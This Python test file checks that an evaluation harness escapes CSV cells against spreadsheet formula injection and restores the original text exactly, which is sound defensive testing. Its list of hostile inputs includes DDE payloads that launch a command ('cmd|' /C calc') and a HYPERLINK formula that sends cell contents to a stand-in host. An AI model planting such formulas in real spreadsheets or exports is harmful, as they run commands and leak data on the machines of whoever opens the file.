"""Texts in CSV files: what a spreadsheet would run is made a text, and is exact for whoever undoes it."""

from __future__ import annotations

import csv
import json
import re
from dataclasses import replace
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st
from pyarrow import parquet

from harness import load_run
from harness.comparison.columns import Place
from harness.exports import FILES, Text, write_comparison
from harness.files import json_cell, safe_cell, text_of_cell, write_csv
from harness.scoring.metrics import METRICS
from harness.tables import SCORE_TEXTS, item_types, write_results
from tests.ledger import note
from tests.test_exports import findings, read
from tests.test_tables import TASKS, item

BEGINS = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"
FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://other/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '"=1+1"',
    "'=1+1",
    ' "=1+1"',
    "   =1+1",
    "\xa0=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "a;=1+1",
    "a\n=1+1",
    "a\r\n@x",
    'a;"-1',
    "a\t+1",
]
pieces = st.sampled_from([*BEGINS, "'", '"', " ", ";", ",", "\xa0", "a", "\\", "\u3000"])
texts = st.lists(pieces, max_size=12).map("".join) | st.text()


def would_run(text: str) -> bool:
    """Whether a spreadsheet sees a formula in a cell: said without the pattern of the program."""
    cells = re.split(r"[;\t\r\n]", text)
    begins = [cell.lstrip().lstrip('"').lstrip().lstrip('"').lstrip() for cell in cells]
    return text[:1] in {"\t", "\r", "\n"} or any(each[:1] in {*BEGINS} for each in begins)


@pytest.mark.parametrize("formula", FORMULAS)
def test_formulas_become_texts(formula: str) -> None:
    """Each way of hiding a formula gets an apostrophe where a cell would begin, and loses it again."""
    safe = safe_cell(formula)
    assert would_run(formula) or formula.startswith("'")  # which some take away
    assert not would_run(safe)
    assert safe != formula
    assert text_of_cell(safe) == formula
    note("hostile inputs", tried=1, lost=0, unit="inputs")


@given(texts)
def test_no_text_runs_and_none_is_lost(text: str) -> None:
    """Of any text: a spreadsheet sees no formula in its cell, and the text comes back to the letter."""
    safe = safe_cell(text)
    assert not would_run(safe)
    assert text_of_cell(safe) == text
    assert safe.replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize("text", ["hellaswag", "it's", "'tis", "a - b", "x=1", "", "a, -1", "1;2", "(-1)"])
def test_other_texts_stay(text: str) -> None:
    """What no spreadsheet would run is written as it is."""
    assert safe_cell(text) == text


@given(st.lists(texts, max_size=4))
def test_lists_of_texts_are_exact(values: list[str]) -> None:
    """A list is JSON that any reader reads, and no formula begins in it, where cells end at a semicolon."""
    cell = json_cell(values)
    assert json.loads(cell) == values
    assert not would_run(cell)


@pytest.mark.parametrize("text", ["' " * 40_000, ";" * 80_000, "\n'" * 40_000, '"' * 80_000])
def test_long_texts_take_no_longer(text: str) -> None:
    """A text made to keep the search busy is searched once."""
    assert text_of_cell(safe_cell(text)) == text


def test_numbers_are_never_touched(tmp_path: Path) -> None:
    """Negative numbers stay numbers; empty cells stay empty."""
    frame = pd.DataFrame(
        {"a": [-1.5, np.nan], "b": pd.array([-2, None], dtype="Int64"), "c": ["-x", None], "d": [True, False]}
    )
    write_csv(frame, tmp_path / "t.csv")
    assert (tmp_path / "t.csv").read_text() == "a,b,c,d\n-1.5,-2,'-x,True\n,,,False\n"


def test_csv_is_written_in_one_place() -> None:
    """A file of the program that wrote CSV by itself would forget what makes texts safe."""
    own = re.compile(r"\.to_csv\(|csv\.(?:writer|DictWriter)\(")
    root = Path(__file__).parents[1]
    files = [
        file for file in (root / "harness").rglob("*.py") if own.search(file.read_text(encoding="utf-8"))
    ]
    assert files == [root / "harness/files.py"]


@pytest.mark.parametrize("formula", FORMULAS)
def test_the_tables_of_a_run(tmp_path: Path, formula: str) -> None:
    """In both CSV tables no text runs and every number is there; the Parquet has the texts as they are."""
    record = replace(item("mmlu", 0).record, subject=formula, id=formula, cluster=formula)
    scores = [replace(item("mmlu", 0), record=record), replace(item("mmlu", 1), unscored=formula, sums=())]
    write_results(tmp_path, {formula: scores}, TASKS)
    with (tmp_path / "items.csv").open(newline="") as file:
        written = list(csv.DictReader(file))
    types = item_types([METRICS["acc"]])
    for row in written:
        for name, kind in types.items():
            assert kind != "string" or not would_run(row[name]), name
    assert json.loads(written[0]["sums"]) == [-2.0, -2.5]
    assert written[0]["sums"].startswith("[-2.0")
    exact = parquet.read_table(tmp_path / "items.parquet").to_pylist()
    told = [(each["endpoint"], each["subject"], each["id"], each["unscored"]) for each in exact]
    assert told == [(formula, formula, formula, None), (formula, "", "id,1", formula)]
    cells = ("endpoint", "subject", "id", "cluster")
    assert [text_of_cell(written[0][name]) for name in cells] == [formula] * 4
    with (tmp_path / "scores.csv").open(newline="") as file:
        rows = list(csv.DictReader(file))
    assert not any(would_run(row[name]) for row in rows for name in SCORE_TEXTS)
    assert {text_of_cell(row["endpoint"]) for row in rows} == {formula}


def test_the_files_of_a_comparison(tmp_path: Path) -> None:
    """Labels, questions and choices do not run; numbers and lists are there, choices are exact JSON."""
    texts = {Place("toy", 0, "", 1): Text("-1?", ("=1", "a;=1", "x"))}
    write_comparison(tmp_path, findings("=base", "@tuned", extra=1), texts)
    for name in FILES:
        rows = read(tmp_path / name)
        assert rows
        for row in rows:
            numbers = {column: cell for column, cell in row.items() if re.fullmatch(r"-?[0-9.]+", cell)}
            assert not any(would_run(cell) for column, cell in row.items() if column not in numbers)
            assert row["baseline"] == "'=base"
    flips = read(tmp_path / "flips.csv")
    assert flips[0]["question"] == "'-1?"
    assert json.loads(flips[0]["choices"]) == ["=1", "a;=1", "x"]
    assert float(flips[0]["margin"]) < 0
    assert flips[0]["gold"] == "[0]"


def test_a_run_is_read_back_exactly(tmp_path: Path) -> None:
    """`Run.scores` has the texts as they were before they were made safe."""
    record = replace(item("mmlu", 0).record, subject="'=1+1")
    written = write_results(tmp_path, {"-x": [replace(item("mmlu", 0), record=record)]}, TASKS)
    endpoint = {"label": "-x", "identity": "", "replicate": 0}
    manifest = {
        "status": "complete",
        "remarks": [],
        "tasks": {},
        "endpoints": [endpoint],
        "identity": {"tasks": {}},
    }
    (tmp_path / "run.json").write_text(json.dumps(manifest))
    scores = load_run(tmp_path).scores
    assert list(scores["endpoint"]) == list(written["endpoint"])
    assert list(scores["subject"]) == list(written["subject"])
    assert "'=1+1" in set(scores["subject"])
